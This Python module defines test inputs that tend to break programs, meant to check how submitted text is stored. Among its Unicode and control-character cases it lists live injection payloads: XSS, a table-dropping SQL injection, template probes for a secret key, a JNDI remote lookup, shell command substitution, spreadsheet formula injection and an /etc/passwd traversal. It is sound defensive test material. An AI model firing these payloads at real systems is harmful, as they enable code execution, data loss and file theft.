"""Texts of the kinds that break programs, and what is kept of each."""

from __future__ import annotations

import json
from collections.abc import Iterator
from itertools import cycle, islice

from config.quality.package import Package

# The Big List of Naughty Strings (MIT).
LIST = Package(
    "blns",
    "2.0.4",
    sha512="6446590fc0ef189853c3da04dee2e3c938450cc4506dc1f4d756324942be9007"
    "2e787bda50345f58aa7b409ad06e56adf16cdc7a05b0545b8d77e5d9e3d2d139",
    member="package/resources/blns.json",
    variable="HOSTILE_TEXTS",
    said="the Big List of Naughty Strings",
)

# Kept as they were typed.
KEPT = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)> ' OR 1=1; DROP TABLE submissions_contribution; --",
    "{{ settings.SECRET_KEY }} {% include 'x' %} %s %(name)s ${jndi:ldap://192.0.2.1/a} `id` $(id)",
    "=HYPERLINK(\"http://192.0.2.1\";\"x\")",
    "+1 @SUM(A1) -2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\U0001d518\U0001d52b\U0001d526 \U00020bb7 \U0001f9d1\U0001f3fd\u200d\U0001f91d\u200d\U0001f9d1\U0001f3fb",
    "&lt;b&gt; &amp;amp; &#60; ]]> <![CDATA[x]]>",
    "../../../etc/passwd C:\\CON \\n \\\\",
    "undefined null None NaN true 0 -1 1e400 0x1F",
    "e\ufb03cient \ufb01rst \ufb02at, 30 \u2264 x \u2265 y \u2248 z \u2192 \u221e",
    "joined\u2060words\u2063 and\u206a marks",
    "العربية، من اليمين إلى اليسار، 123",
    "עִבְרִית וְעוֹד, left to right in between, סוף",
    "ᐃᓄᒃᑎᑐᑦ Ελληνικά Кириллица 漢字 ไทย हिन्दी",
    "\U0001f469\u200d\U0001f4bb \U0001f1e8\U0001f1e6 \U0001f44d\U0001f3fd \u2764\ufe0f",
    "zero\u200bwidth\u200cnon\u200djoiner soft\u00adhyphen \u00a0no break",
)  # fmt: skip

# Kept as what stands beside them: letters composed, line ends as one, nothing that cannot be seen.
CHANGED = {
    "bell\x07 escape\x1b[31m": "bell escape[31m",
    "turned \u202ethgir ot tfel\u202c": "turned thgir ot tfel",
    "decomposed e\u0301": "decomposed \u00e9",
    # One of these marks is itself composed differently, and others change their order.
    "Z\u0351\u036b\u0343\u0334\u0319": "Z\u0334\u0319\u0351\u036b\u0313",
    "one\r\ntwo\rthree\u2028four": "one\ntwo\nthree\nfour",
    "\ufeffmark": "mark",
    "flag \U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f": "flag \U0001f3f4",
}

LONGEST = 5000
FIRST_OF_OTHER_SCRIPTS = KEPT.index("العربية، من اليمين إلى اليسار، 123")
LONG = (
    *(
        "".join(islice(cycle(f"{text} "), LONGEST - 1)).strip() + "."
        for text in KEPT[FIRST_OF_OTHER_SCRIPTS:]
    ),
    "w" * (LONGEST - 1) + ".",
)


def naughty() -> list[str]:
    """Each text of the list."""
    texts: list[str] = json.loads(LIST.file().read_text(encoding="utf-8"))
    return texts


def bundles(texts: list[str], limit: int = LONGEST - 100) -> Iterator[str]:
    """The same, as many in one as a long field takes, a line for each."""
    bundle = ""
    for text in texts:
        if bundle and len(bundle) + len(text) >= limit:
            yield bundle
            bundle = ""
        bundle = f"{bundle}\n{text}".strip()
    yield bundle


TYPED: dict[str, str] = {**{text: text for text in (*KEPT, *LONG)}, **CHANGED}
